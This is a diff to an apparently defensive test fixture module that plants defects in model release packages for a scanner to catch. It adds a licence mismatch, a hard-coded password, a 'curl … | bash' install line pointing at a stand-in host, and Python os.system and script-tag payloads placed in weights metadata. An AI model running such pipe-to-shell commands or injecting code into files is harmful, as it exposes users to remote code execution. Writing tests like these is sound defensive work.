@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from .kit import Twin, defect
+from .kit import FUSED, Twin, defect, read_tensors, write_tensors
 
 
 def hub_token() -> str:
@@ -137,3 +137,28 @@ def fused_secret_wide(d: Path) -> None:
 def fused_secret_variable(d: Path) -> None:
     """A key whose form tells nobody, behind a name that does."""
     _note(d, "MISTRAL_API_" + "KEY=QwErTyUiOpAsDfGhJkLzXcVbNm123456")
+
+
+@defect(Twin.LORA, "CD010")
+def lora_licence_text(d: Path) -> None:
+    """The text of another licence than the card names."""
+    (d / "LICENSE").write_text("GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3, 19 November 2007\n")
+
+
+@defect(Twin.FUSED, "SC002")
+def fused_password(d: Path) -> None:
+    """A password in an example of the card."""
+    _note(d, "    connect(user='ada', pass" + "word='Tr0ub4dor&3')")
+
+
+@defect(Twin.FUSED, "FS021")
+def fused_command_in_card(d: Path) -> None:
+    """A card that has people run what they download."""
+    _note(d, "    curl -s https://acme.example.net/install.sh | bash")
+
+
+@defect(Twin.FUSED, "FS021")
+def fused_code_in_metadata(d: Path) -> None:
+    """A call of Python, and a script of a page, in the metadata of the weights."""
+    noted = {"by": "__import__('os').system('true')", "at": "<script>alert(1)</script>"}
+    write_tensors(d / FUSED, read_tensors(d / FUSED), noted)
